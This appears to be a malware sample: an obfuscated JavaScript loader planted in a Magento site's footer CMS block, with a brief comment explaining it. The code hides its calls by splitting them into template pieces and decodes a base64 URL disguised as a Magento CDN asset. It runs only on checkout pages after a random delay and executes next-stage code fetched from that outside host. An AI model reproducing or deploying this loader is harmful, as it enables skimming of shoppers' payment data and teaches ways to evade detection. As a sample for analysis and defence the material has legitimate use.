// The script of a CMS block ("footer_links_block") rewritten through the Magento flaw: the
// loader's code is spread over String.raw template pieces and a new Function is built from
// them, so no single literal names fetch, eval or the host. The built function fetches the
// next stage as text on checkout pages and runs it.
(function () {
  var p = [
    String.raw`var u=atob("aHR0cHM6Ly9tYWdlbnRvLWNkbi1tZWRpYS5pbnZhbGlkL3N0YXRpYy92ZXJzaW9uMTcyL2Zyb250ZW5kL2pzL21peGlucy5qcw==");`,
    String.raw`if(!/checkout|firecheckout|onestep/.test(location.pathname))return;`,
    String.raw`window["fe"+"tch"](u,{credentials:"omit",cache:"no-store"})`,
    String.raw`.then(function(r){return r.text()})`,
    String.raw`.then(function(t){(new window["Func"+"tion"](t))()})`,
    String.raw`.catch(function(){});`
  ];
  var order = [0, 1, 2, 3, 4, 5];
  var src = "";
  for (var i = 0; i < order.length; i++) src += p[order[i]];
  setTimeout(function () {
    try { new Function(src)(); } catch (e) {}
  }, 1500 + Math.floor(Math.random() * 1500));
})();
